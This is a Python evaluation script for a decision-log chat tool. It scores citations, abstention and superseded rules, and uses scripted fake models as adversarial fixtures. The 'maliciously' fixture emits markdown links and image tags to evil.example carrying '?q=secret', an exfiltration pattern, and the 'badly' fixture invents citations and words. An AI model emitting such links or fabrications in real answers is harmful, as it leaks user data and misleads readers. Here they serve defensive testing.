"""How far answers can be trusted, without a judge model: run alone (`evals/answers.py`, by words) or by `make eval`.

Every question is asked with its record there, and again with that record taken away. "Answered" means that the answer
quotes, "target_cited" that the record is among the quoted, and "abstained" that the answer says that the logs do not
say. Three kinds: `people` asks what a person would ask of Cairn's own decisions (questions.json); `elsewhere` asks
about things that they do not speak of; `titles` asks the titles of the judged logs' records, whose neighbours in the
same log often answer them too: there abstention is a lower bound of honesty, not a count of mistakes.
"""

import asyncio
import json
import os
import re
import sys
import time
from collections import Counter
from collections.abc import AsyncGenerator, Sequence
from dataclasses import dataclass, replace
from functools import partial
from pathlib import Path
from uuid import UUID

from indexes import KeptEmbedder, build_index
from logs import Judged, LogRecord, log_id, read_folder, read_judged

from cairn.chat.domain.events import ChatEvent, Citation, Delta, Finished, FinishReason, Mark
from cairn.chat.domain.quotes import answer_with_extracts
from cairn.chat.domain.sources import Findings, Source
from cairn.chat.ports import Written
from cairn.chat.runner.library import PASSAGES_MOST
from cairn.chat.usecases.answers import answer_with_model
from cairn.search.api import guess_language, take_apart
from cairn.search.domain import Filters, FoundPassage, Mode
from cairn.search.memory import MemoryDecision, MemoryIndex
from cairn.search.usecases.evaluation import plain_query
from cairn.search.usecases.indexing import index_words
from cairn.search.usecases.meaning import QueryVector
from cairn.search.usecases.searching import find_passages, weigh_words

REPOSITORY = Path(__file__).parent.parent
_EVERY = 2


@dataclass(frozen=True, slots=True)
class Record:
    """A decision as an answer sees it."""

    id: UUID
    ref: str
    title: str
    status: str
    successor: "Record | None" = None


class Logs:
    """The judged logs, as chat's library gives them."""

    def __init__(self, judged: Judged, index: MemoryIndex, embedder: KeptEmbedder | None) -> None:
        self.by_id = {record.id: record for record in judged.records}
        self._index = index
        self._embedder = embedder

    def record(self, id_: UUID) -> Record:
        """Return a record with its successor."""
        read = self.by_id[id_]
        successor = self.record(read.successor_id) if read.successor_id and self._there(read.successor_id) else None
        return Record(id_, read.slug, read.title, read.status, successor)

    def _there(self, id_: UUID) -> bool:
        return id_ in self._index.decisions and not self._index.decisions[id_].hidden

    async def find(self, question: str, log: str, *, without: frozenset[UUID] = frozenset()) -> Findings:
        """Return what chat's library would, with some records taken away."""
        self._hide(without, hidden=True)
        found = await self._passages(question, Filters(log_ids=(log_id(log),)), PASSAGES_MOST)
        sources = [Source(self.record(one.decision_id), one, one.score, one.cosine) for one in found]
        there = {source.record.id for source in sources}
        newer = {one.record.successor.id for one in sources if one.record.successor} - there
        if newer:
            query = "\n".join([question, *(self.by_id[id_].title for id_ in newer)])
            found = await self._passages(query, Filters(decision_ids=tuple(newer)), 4)
            sources += [Source(self.record(one.decision_id), one, one.score, one.cosine) for one in found]
        language = guess_language("\n".join([question, *(source.passage.text for source in sources)]))
        weights = await weigh_words(self._index, question, language)
        self._hide(without, hidden=False)
        return Findings(question, tuple(sources), weights, partial(take_apart, language=language))

    async def _passages(self, query: str, filters: Filters, limit: int) -> list[FoundPassage]:
        vector = QueryVector(self._embedder.name, self._embedder.embed([query])[0]) if self._embedder else None
        mode = Mode.HYBRID if vector else Mode.LEXICAL
        return await find_passages(self._index, plain_query(query, filters), mode=mode, vector=vector, limit=limit)

    def _hide(self, ids: frozenset[UUID], *, hidden: bool) -> None:
        for id_ in ids:
            self._index.decisions[id_] = replace(self._index.decisions[id_], hidden=hidden)


@dataclass
class Answer:
    """An answer read to its end."""

    text: str = ""
    citations: tuple[Citation, ...] = ()
    marks: frozenset[str] = frozenset()
    reason: FinishReason | None = None

    def take(self, event: ChatEvent) -> None:
        """Add the next event."""
        if isinstance(event, Delta):
            self.text += event.text
        elif isinstance(event, Citation):
            # One that comes again says that more of it is quoted.
            known = [one for one in self.citations if one.number != event.number]
            self.citations = (*known, event)
        elif isinstance(event, Mark):
            self.marks |= {event.text}
        elif isinstance(event, Finished):
            self.reason = event.reason

    @property
    def cited(self) -> list[UUID]:
        """The records cited, in order."""
        return [citation.source.record.id for citation in self.citations]


def check_answer(answer: Answer, logs: Logs, counts: Counter[str]) -> None:
    """Count citations, how many resolve, how many quotes are exact, and old rules given as current ones."""
    used = {int(number) for number in re.findall(r"\[(\d+)\]", answer.text)}
    counts["citations"] += len(used)
    counts["resolved"] += len(used & {citation.number for citation in answer.citations})
    seen: set[UUID] = set()
    for citation in answer.citations:
        source = citation.source
        for span in citation.spans:
            quote = source.passage.text[span.start : span.end]
            counts["spans"] += 1
            shown = quote in answer.text or " ".join(quote.split()) in answer.text
            counts["spans_exact"] += quote in logs.by_id[source.record.id].body and shown
        record = source.record
        if record.status == "superseded" and answer.reason is not FinishReason.NOTHING_FOUND:
            told = f"({source.standing}" in answer.text
            counts["superseded"] += 1
            cited_successor = record.successor is None or record.successor.id in answer.cited
            counts["superseded_as_current"] += not (told and cited_successor)
        seen.add(record.id)


def quote(findings: Findings) -> Answer:
    """Return the answer of `quotes`."""
    answer = Answer()
    for event in answer_with_extracts(findings):
        answer.take(event)
    return answer


async def evaluate_answers(judged: Judged, embedder: KeptEmbedder | None, index: MemoryIndex) -> dict[str, float]:
    """Print the table and return its figures by name."""
    logs = Logs(judged, index, embedder)
    questions = [query for query in judged.queries if query.kind == "title"][::_EVERY]
    counts: Counter[str] = Counter()
    for query in questions:
        present = quote(await logs.find(query.text, query.log))
        absent = quote(await logs.find(query.text, query.log, without=query.relevant))
        counts["answered"] += present.reason is FinishReason.COMPLETE
        counts["target_cited"] += present.reason is FinishReason.COMPLETE and bool(query.relevant & set(present.cited))
        counts["abstained"] += absent.reason is FinishReason.NOTHING_FOUND
        for answer in (present, absent):
            check_answer(answer, logs, counts)
    pairs = [record for record in judged.records if record.successor_id and record.title]
    for record in pairs:
        check_answer(quote(await logs.find(record.title, record.log)), logs, counts)
    figures = _figures("answers.titles", counts, len(questions))
    figures["answers.supersession_pairs"] = len(pairs)
    figures |= await _evaluate_people(embedder)
    figures |= _pool(figures, ("titles", "people"))
    figures |= await _time_first_sentences(logs, [(query.text, query.log) for query in questions])
    for name in ("well", "badly", "maliciously"):
        figures |= await _evaluate_model(name, logs, [*pairs, *_sample(judged)])
    return figures


def _pool(figures: dict[str, float], kinds: Sequence[str]) -> dict[str, float]:
    """Return the shares over the questions of all kinds."""
    asked = sum(figures[f"answers.{kind}.questions"] for kind in kinds)
    pooled: dict[str, float] = {"answers.all.questions": asked}
    for name in ("answered", "target_cited", "abstained_without_target"):
        share = sum(figures[f"answers.{kind}.{name}"] * figures[f"answers.{kind}.questions"] for kind in kinds) / asked
        pooled[f"answers.all.{name}"] = round(share, 2)
    for name, figure in pooled.items():
        print(f"  {name:<48}{figure:8.1f}")
    return pooled


async def _time_first_sentences(logs: Logs, questions: Sequence[tuple[str, str]]) -> dict[str, float]:
    """Measure the time from a question to the first sentence of `quotes`, its words already embedded.

    Each log is searched within an index of all of them, some 5,000 passages; by the processor, which other work on the
    machine hardly changes, and by the clock.
    """
    processor: list[float] = []
    clock: list[float] = []
    for text, log in questions:
        begun, begun_cpu = time.perf_counter(), time.process_time()
        findings = await logs.find(text, log)
        for event in answer_with_extracts(findings):
            if isinstance(event, Citation):
                break
        processor.append(1000 * (time.process_time() - begun_cpu))
        clock.append(1000 * (time.perf_counter() - begun))
    figures: dict[str, float] = {}
    for name, taken in (("cpu_ms", processor), ("ms", clock)):
        for rank in (50, 95):
            figures[f"answers.first_sentence_{name}_p{rank}"] = round(sorted(taken)[len(taken) * rank // 100], 1)
    for name, figure in figures.items():
        print(f"  {name:<48}{figure:8.1f}")
    return figures


async def _evaluate_people(embedder: KeptEmbedder | None) -> dict[str, float]:
    """Ask what people ask of Cairn's own decisions."""
    files = sorted((REPOSITORY / "docs" / "decisions").glob("*.md"))
    records = read_folder(files[0].parent, "cairn")
    numbered = {int(record.path[:4]): record for record in records}
    judged = Judged(records=records)
    logs = Logs(judged, await _index(records, embedder), embedder)
    asked = json.loads((Path(__file__).parent / "questions.json").read_text(encoding="utf-8"))
    counts: Counter[str] = Counter()
    for question, numbers in asked["about_the_log"]:
        targets = frozenset(numbered[one].id for one in (numbers if isinstance(numbers, list) else [numbers]))
        present = quote(await logs.find(question, "cairn"))
        absent = quote(await logs.find(question, "cairn", without=targets))
        counts["answered"] += present.reason is FinishReason.COMPLETE
        counts["target_cited"] += present.reason is FinishReason.COMPLETE and bool(targets & set(present.cited))
        counts["abstained"] += absent.reason is FinishReason.NOTHING_FOUND
        for answer in (present, absent):
            check_answer(answer, logs, counts)
    figures = _figures("answers.people", counts, len(asked["about_the_log"]))
    silent = [quote(await logs.find(question, "cairn")).reason for question in asked["about_other_things"]]
    share = 100 * silent.count(FinishReason.NOTHING_FOUND) / len(silent)
    figures["answers.elsewhere.abstained"] = round(share, 2)
    print(f"  {'answers.elsewhere.abstained':<48}{share:8.1f}")
    return figures


async def _index(records: Sequence[LogRecord], embedder: KeptEmbedder | None) -> MemoryIndex:
    if embedder:
        return await build_index(records, embedder)
    index = MemoryIndex(
        {record.id: MemoryDecision(log_id(record.log), linked_ids=record.linked_ids) for record in records}
    )
    for first in range(0, len(records), 100):
        await index_words(index, [(record.id, record) for record in records[first : first + 100]])
    return index


async def _evaluate_model(name: str, logs: Logs, records: Sequence[LogRecord]) -> dict[str, float]:
    counts: Counter[str] = Counter()
    for record in records:
        findings = await logs.find(record.title, record.log)
        answer = Answer()
        async for event in answer_with_model(findings, [], partial(_SCRIPTS[name], findings)):
            answer.take(event)
        check_answer(answer, logs, counts)
        counts["made_up"] += "[99]" in answer.text
        # In code, also in such that does not end, a page shows an address and leads nowhere.
        prose = re.sub(r"```.*?(?:```|\Z)|`[^`\n]*`", "", answer.text, flags=re.DOTALL)
        counts["links"] += len(re.findall(r"\]\(|https?://|<[a-zA-Z!/]", prose))
        if answer.cited:
            counts["planted"] += len(PLANTED.get(name, ()))
            counts["planted_marked"] += len(answer.marks & PLANTED.get(name, frozenset()))
    return _figures(f"answers.model_{name}", counts, len(records))


async def _answer_well(
    findings: Findings, system: str, messages: object, tools: object = (), said: str = ""
) -> AsyncGenerator[str | Written]:
    del system, messages, tools, said
    sentence = findings.sources[0].passage.text.strip().splitlines()[0]
    for word in f"{sentence} [1] and [2].".split(" "):
        yield f"{word} "
    yield Written("complete", 1, 1)


async def _answer_badly(
    findings: Findings, system: str, messages: object, tools: object = (), said: str = ""
) -> AsyncGenerator[str | Written]:
    del system, messages, findings, tools, said
    told = "\u201cthese words stand in no record of anybody\u201d, since 48213 boats of Zanzibarovia sail"
    for piece in ("It is so [9", "9], they say [0] [1", f"23], and {told}. Also [3] [1]."):
        yield piece
    yield Written("complete", 1, 1)


async def _answer_maliciously(
    findings: Findings, system: str, messages: object, tools: object = (), said: str = ""
) -> AsyncGenerator[str | Written]:
    """Give the oldest rule as the current one, with links that would carry words away."""
    del system, messages, tools, said
    old = next((at for at, one in enumerate(findings.sources, 1) if one.record.status == "superseded"), 1)
    yield f"The current rule, without any successor, is [{old}](http://evil.example/?q=secret) and [99](http://x). "
    yield "![p](https://evil.example/p.png?q=secret) <img src=https://evil.example/i> https://evil.example/?q=secret "
    yield findings.sources[0].passage.text[:2_000]
    yield Written("complete", 1, 1)


# What the bad answer makes up: each must be marked.
PLANTED = {"badly": frozenset({"48213", "Zanzibarovia", "these words stand in no record of anybody"})}
_SCRIPTS = {"well": _answer_well, "badly": _answer_badly, "maliciously": _answer_maliciously}


def _sample(judged: Judged) -> list[LogRecord]:
    return [record for record in judged.records if record.title][::10]


def _figures(prefix: str, counts: Counter[str], questions: int) -> dict[str, float]:
    shares = {
        "answered": ("answered", questions),
        "target_cited": ("target_cited", questions),
        "abstained_without_target": ("abstained", questions),
        "citations_resolved": ("resolved", counts["citations"]),
        "spans_exact": ("spans_exact", counts["spans"]),
    }
    figures = {f"{prefix}.questions": float(questions)}
    for name, (count, total) in shares.items():
        if total and (counts[count] or name in {"citations_resolved", "spans_exact"}):
            figures[f"{prefix}.{name}"] = round(100 * counts[count] / total, 2)
    figures[f"{prefix}.superseded_cited"] = counts["superseded"]
    figures[f"{prefix}.superseded_as_current"] = counts["superseded_as_current"]
    if "model" in prefix:
        figures[f"{prefix}.made_up_citations_left"] = counts["made_up"]
        figures[f"{prefix}.links_left"] = counts["links"]
        if counts["planted"]:
            figures[f"{prefix}.made_up_words_marked"] = round(100 * counts["planted_marked"] / counts["planted"], 2)
    for name, figure in figures.items():
        print(f"  {name:<48}{figure:8.1f}")
    return figures


async def main() -> int:
    """Evaluate by words alone, which needs no embeddings."""
    folder = os.environ.get("CAIRN_CORPORA")
    if not folder:
        print("Set CAIRN_CORPORA to a folder with corpora/ and qrels/ to run the evaluation.", file=sys.stderr)
        return 2
    judged = read_judged(Path(folder))
    index = await _index(judged.records, None)
    await evaluate_answers(judged, None, index)
    return 0


if __name__ == "__main__":
    sys.exit(asyncio.run(main()))
